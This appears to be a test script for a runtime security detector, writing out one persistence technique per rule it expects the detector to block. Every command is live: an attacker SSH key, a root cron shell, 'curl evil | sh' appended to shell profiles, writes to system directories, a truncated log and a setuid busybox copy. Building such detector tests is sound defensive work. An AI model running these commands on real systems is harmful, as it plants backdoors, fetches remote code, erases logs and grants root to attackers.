#!/bin/sh
# Persistence, each way a detector names: an authorized key, a cron job, a shell profile, a
# program in a binary directory, files below / and /dev, a cleared log, a set-uid bit.
# selftest: expect: Adding ssh keys to authorized_keys = blocked
# selftest: expect: Schedule Cron Jobs = blocked
# selftest: expect: Modify Shell Configuration File @ /etc/profile = blocked
# selftest: expect: Modify Shell Configuration File @ .bashrc = blocked
# selftest: expect: Write below binary dir @ /usr/local/bin/update = blocked
# selftest: expect: Write below root @ /evil = blocked
# selftest: expect: Create files below dev @ /dev/evil = blocked
# selftest: expect: Write outside scratch space @ /opt/evil = blocked
# selftest: expect: Clear Log Activities @ /var/log/dpkg.log = blocked
# selftest: expect: Set Setuid or Setgid bit @ /tmp/suid
exec 2>/dev/null
echo 'ssh-ed25519 AAAA attacker' >> ~/.ssh/authorized_keys
echo '* * * * * root sh -i' > /etc/cron.d/update
echo 'curl evil | sh' >> /etc/profile
echo 'curl evil | sh' >> ~/.bashrc
echo '#!/bin/sh' > /usr/local/bin/update
echo evil > /evil
echo evil > /dev/evil
echo evil > /opt/evil
true > /var/log/dpkg.log
cp /bin/busybox /tmp/suid && chmod 4755 /tmp/suid
true
